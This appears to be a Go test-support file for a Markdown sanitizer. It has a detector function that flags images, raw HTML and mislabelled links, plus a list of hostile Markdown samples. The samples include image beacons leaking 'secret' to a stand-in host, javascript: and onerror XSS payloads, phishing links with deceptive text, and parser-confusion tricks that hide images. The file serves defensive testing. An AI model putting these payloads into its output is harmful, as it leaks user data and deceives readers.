package hostile

import (
	"bytes"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/text"
)

// Armed returns the parts of a Markdown document that load something, are HTML,
// or are links whose text differs from their address.
func Armed(markdown string) (found []string) {
	source := []byte(markdown)
	for _, reader := range []goldmark.Markdown{goldmark.New(), goldmark.New(goldmark.WithExtensions(extension.GFM))} {
		_ = ast.Walk(reader.Parser().Parse(text.NewReader(source)),
			func(n ast.Node, entering bool) (ast.WalkStatus, error) {
				switch n := n.(type) {
				case *ast.Image, *ast.RawHTML, *ast.HTMLBlock, *ast.LinkReferenceDefinition:
					found = append(found, n.Kind().String())
				case *ast.Link:
					if label, ok := n.FirstChild().(*ast.Text); !ok || n.ChildCount() > 1 ||
						!bytes.Equal(label.Value(source), n.Destination) {
						found = append(found, "link to "+string(n.Destination))
					}
				}
				return ast.WalkContinue, nil
			})
	}
	return found
}

// Markdown lists documents that would load, execute or hide something.
var Markdown = []string{
	`![x](http://e.example/p.png?d=secret "t")`, "![x][r]\n\n[r]: http://e.example/?d=1",
	"![r]\n\n[r]: <http://e.example/a b> 'title'", "![[http://e.example/x.png]]",
	`[![x](http://e.example/1)](http://e.example/2)`, `![a [b](http://e.example/3) c](http://e.example/4)`,
	"![x\ny](\nhttp://e.example/\n'title')", `!&#91;x](http://e.example)`,
	`\![x](http://e.example/5)`, `\\![x](http://e.example/6)`, `![x](data:image/svg+xml;base64,PHN2Zz4=)`,
	`[a](javascript:alert(1))`, `[a](&#106;avascript:alert(1))`, `[a](//e.example/x)`,
	`[Your bank](https://e.example/login)`, `[https://bank.example](https://e.example)`,
	"[bank]\n\n> [bank]: https://e.example", "[a]: http://e.example\n===\n\n[a][]", "[^1]: ![x](http://e.example)",
	`<img src=x onerror=alert(1)>`, `\<img src=x>`, `\\<img src=x>`, `\\\<img src=x>`,
	"<script>\n\nalert(1)\n\n</script>", "<!-- `\n\n-->`![x](http://e.example)`", "<?php ?>", "<![CDATA[x]]>",
	"<style>\n@import url(x)</style>",
	"<https://e.example/`> ![x](http://e.example) `", "<`@x.yz> ![x](http://e.example) `",
	`<a title="` + "`" + `"> ![x](http://e.example) ` + "`", "http://a.bc/` ![x](http://e.example) `",
	"http://a.bc/[x](`) ` ![i](http://e.example) `", "[x](`) ` ![i](http://e.example) `",
	"| ` | ![x](http://e.example) ` |\n|---|---|\n| `a | b` ![x](http://e.example) `c | d` |",
	"---\n```\n---\n![x](http://e.example)\n```", "+++\n````\n+++\n![x](http://e.example)\n````",
	"- a\n\n      ![code](x)\n\n  ![x](http://e.example)", "a\n    ![x](http://e.example)",
	"```\n![x](http://e.example)",
	"[x](<http://e.example/\"onload=\"alert(1)>)", "[\u202ex](http://e.example)",
	"# ![x](http://e.example)\n\n<b\nonclick=x>", "    \t![x](http://e.example)\n<div>",
	"`` ` `` ![x](http://e.example)", "*![*x](http://e.example)",
}
